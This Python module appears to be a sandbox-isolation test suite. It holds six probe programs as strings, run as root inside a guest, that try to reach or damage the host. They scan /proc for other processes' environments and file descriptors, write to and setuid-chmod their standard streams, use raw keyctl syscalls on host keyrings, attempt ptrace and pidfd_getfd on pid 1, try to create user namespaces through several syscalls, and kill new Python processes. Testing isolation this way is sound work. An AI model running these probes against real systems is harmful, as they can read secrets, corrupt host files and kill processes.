"""Attacks by a machine's root: programs for its Python, which print what they could access."""

from __future__ import annotations

#: Inspect every process that appears, as fast as possible, until a file tells it to stop.
WATCH = r"""
import os
SEEN, ME = set(), {"1", str(os.getpid()), str(os.getppid())}

def try_all(pid):
    place = f"/proc/{pid}/"
    for name in ("exe", "cwd", "root"):
        try:
            target = os.readlink(place + name)
            if "python" in target:
                SEEN.add(f"{name} {target}")
        except OSError:
            pass
    for name in ("environ", "cmdline", "mountinfo", "maps"):
        try:
            with open(place + name, "rb") as file:
                text = file.read()
            if b"CANARY" in text or b"orbctl" in text:
                SEEN.add(name)
        except OSError:
            pass
    try:
        for fd in os.listdir(place + "fd"):
            target = os.readlink(place + "fd/" + fd)
            if "canary" in target or target.startswith(("mnt:", "pid:", "/proc")):
                SEEN.add(f"fd {target}")
                try:
                    os.chmod(place + "fd/" + fd, 0o666)
                except OSError:
                    pass
    except OSError:
        pass

print("watching", flush=True)
while not os.path.exists("/tmp/enough"):
    for pid in os.listdir("/proc"):
        if pid.isdigit() and pid not in ME:
            try_all(pid)
print(sorted(SEEN))
"""

#: Do everything to its own standard streams that could damage a file of the host.
STREAMS = r"""
import os
for number in (0, 1, 2):
    for flags in (os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
        try:
            fd = os.open(f"/proc/self/fd/{number}", flags)
            os.write(fd, b"evil")
            os.close(fd)
        except OSError:
            pass
    for act in (lambda fd: os.fchmod(fd, 0o4777), lambda fd: os.fchown(fd, 4242, 4242),
                lambda fd: os.ftruncate(fd, 0), lambda fd: os.setxattr(fd, "user.evil", b"1")):
        try:
            act(number)
        except OSError:
            pass
"""

#: Use keys: the session's, those of the host's root, and new keyrings.
KEYS = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
numbers = {"x86_64": (248, 249, 250)}.get(os.uname().machine, (217, 218, 219))
add_key, request_key, keyctl = numbers
calls = {
    "search": (keyctl, 10, -3, b"user", b"canary", 0),
    "link": (keyctl, 8, -4, -3),
    "join": (keyctl, 1, 0),
    "describe": (keyctl, 6, -4, 0, 0),
    "add": (add_key, b"user", b"evil", b"x", 1, -4),
    "request": (request_key, b"user", b"canary", 0, -4),
}
if os.uname().machine == "x86_64":
    calls["other name"] = (keyctl | 1 << 30, 10, -3, b"user", b"canary", 0)
print([name for name, words in calls.items() if libc.syscall(*words) != -1])
"""

#: Access the machine's first process, which is the host's Python.
PID_1 = r"""
import ctypes, os
libc, got = ctypes.CDLL(None, use_errno=True), []
for name in ("mem", "environ", "maps", "auxv"):
    try:
        open("/proc/1/" + name, "rb").read(1)
        got.append(name)
    except OSError:
        pass
for name in ("exe", "cwd", "root", *("fd/" + fd for fd in os.listdir("/proc/1/fd"))):
    for act in (os.readlink, os.stat, lambda path: os.chmod(path, 0o700)):
        try:
            act("/proc/1/" + name)
            got.append(name)
        except OSError:
            pass
for request in (16, 0x4206):  # attach, seize
    if libc.ptrace(request, 1, 0, 0) != -1:
        got.append("ptrace")
handle = libc.syscall(434, 1, 0)
if any(libc.syscall(438, handle, fd, 0) != -1 for fd in range(9)):
    got.append("pidfd_getfd")
print(got)
"""

#: Get rights in a user namespace, with each of the calls that create one.
NAMESPACES = r"""
import ctypes, os, struct
libc, got = ctypes.CDLL(None, use_errno=True), []
numbers = {"x86_64": (56, 272)}.get(os.uname().machine, (220, 97))
user = 0x10000000
arguments = struct.pack("8Q", user, 0, 0, 0, 17, 0, 0, 0)
calls = [("clone", numbers[0], user | 17, 0, 0, 0, 0), ("unshare", numbers[1], user)]
calls.append(("clone3", 435, arguments, len(arguments)))
if os.uname().machine == "x86_64":
    calls.append(("x32 unshare", numbers[1] | 1 << 30, user))
    calls.append(("x32 clone", numbers[0] | 1 << 30, user | 17, 0, 0, 0, 0))
for name, *words in calls:
    pid = os.fork()
    if pid == 0:
        child = libc.syscall(*map(lambda w: ctypes.c_long(w) if isinstance(w, int) else w, words))
        os._exit(child != -1)
    if os.waitpid(pid, 0)[1]:
        got.append(name)
print(got)
"""

#: Send a signal to each of the host's Pythons that appears, as soon as it does.
STRIKE = r"""
import os
known = {*os.listdir("/proc")}
print("ready", flush=True)
while True:
    for pid in {*os.listdir("/proc")} - known:
        try:
            if "python" in open(f"/proc/{pid}/comm").read():
                os.kill(int(pid), NUMBER)
        except (OSError, ValueError):
            pass
"""
